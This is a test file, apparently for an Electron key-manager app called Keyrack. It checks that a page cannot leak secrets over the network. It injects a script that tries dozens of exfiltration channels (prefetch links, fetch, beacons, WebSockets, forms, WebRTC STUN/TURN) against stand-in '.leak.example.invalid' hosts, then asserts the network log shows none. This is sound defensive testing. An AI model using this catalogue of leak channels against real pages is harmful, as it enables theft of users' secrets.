import { once } from "node:events";
import { mkdtemp, readFile } from "node:fs/promises";
import { createServer } from "node:net";
import os from "node:os";
import path from "node:path";
import { expect, it } from "vitest";
import { launchKeyrack } from "./harness/launchKeyrack.ts";

/** All the ways in which a page might tell somebody outside a secret, each to a host of its own. */
const ways = `
  const host = (name) => name + ".leak.example.invalid";
  const add = (tag, names) => attempt(() => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(names)) element.setAttribute(name, value);
    document.head.append(element);
  });
  const attempt = async (work) => { try { await work(); } catch {} };
  const links = ["dns-prefetch", "preconnect", "prefetch", "modulepreload", "prerender", "icon",
    "manifest", "stylesheet", "preload"];
  for (const rel of links) add("link", { rel, as: "image", href: "https://" + host(rel) + "/x" });
  for (const tag of ["img", "iframe", "video", "audio", "embed", "source", "track", "input"]) {
    add(tag, { src: "https://" + host(tag) + "/x", type: "image" });
  }
  add("object", { data: "https://" + host("object") + "/x" });
  add("meta", { "http-equiv": "refresh", content: "0; url=https://" + host("meta") + "/" });
  add("meta", { "http-equiv": "x-dns-prefetch-control", content: "on" });
  add("div", { style: "background: url(https://" + host("style") + "/x)" });
  await attempt(() => fetch("https://" + host("fetch") + "/"));
  await attempt(() => navigator.sendBeacon("https://" + host("beacon") + "/", "x"));
  await attempt(() => new WebSocket("wss://" + host("websocket") + "/"));
  await attempt(() => new EventSource("https://" + host("events") + "/"));
  await attempt(() => new WebTransport("https://" + host("transport") + "/"));
  await attempt(() => new Worker("https://" + host("worker") + "/x.js"));
  await attempt(() => new FontFace("x", "url(https://" + host("font") + "/x)").load());
  await attempt(() => {
    const form = document.createElement("form");
    Object.assign(form, { action: "https://" + host("form") + "/", method: "POST" });
    document.body.append(form);
    form.submit();
  });
  await attempt(() => {
    const link = document.createElement("a");
    Object.assign(link, { href: "https://" + host("a") + "/", ping: "https://" + host("ping") + "/" });
    document.body.append(link);
    link.click();
  });
  await attempt(() => window.open("https://" + host("open") + "/"));
  await attempt(async () => {
    const relay = "turn:127.0.0.1:" + relayPort + "?transport=tcp";
    const iceServers = [
      { urls: "stun:" + host("stun") + ":3478" },
      { urls: relay, username: "x", credential: "x" },
    ];
    const connection = new RTCPeerConnection({ iceServers });
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => {
      connection.onicegatheringstatechange = () =>
        connection.iceGatheringState === "complete" && resolve();
      setTimeout(resolve, 5000);
    });
  });
  await attempt(() => { location.href = "https://" + host("location") + "/"; });
`;

/*
 * Chromium's own log of its network tells, which holds look-ups of names too. Seen to fail without
 * `refuseDirectConnections`: "dns-prefetch" and "stun" were looked up, and without the proxy of
 * `confinePage`: the relay was reached. What is left: docs/security.md.
 */
it("can't be left by a secret: no look-up, no connection, by whatever way a page has", async () => {
  const folder = await mkdtemp(path.join(os.tmpdir(), "keyrack-net-log-"));
  const log = path.join(folder, "log.json");
  let relayed = 0;
  const relay = createServer((socket) => {
    relayed += 1;
    socket.destroy();
  });
  relay.listen(0, "127.0.0.1");
  await once(relay, "listening");
  const address = relay.address();
  if (address === null || typeof address === "string") throw new Error("no TCP port");
  const keyrack = await launchKeyrack({ demo: true, args: [`--log-net-log=${log}`] });
  await keyrack.page.getByRole("table", { name: "ARI keys" }).waitFor();
  keyrack.expectConsole("");
  await keyrack.page.evaluate(`(async (relayPort) => { ${ways} })(${address.port})`);
  // A look-up of main's own shows that the log has look-ups, and has them to the end.
  await keyrack.app.evaluate(({ session }) =>
    session
      .fromPartition("platforms")
      .fetch("https://of-main.example.invalid/")
      .catch(() => undefined),
  );
  await keyrack.close();
  relay.close();
  expect(relayed).toBe(0);
  const text = await readFile(log, "utf8");
  expect([...new Set(text.match(/[a-z-]+(?:\.leak)?\.example\.invalid/g))]).toEqual([
    "of-main.example.invalid",
  ]);
});
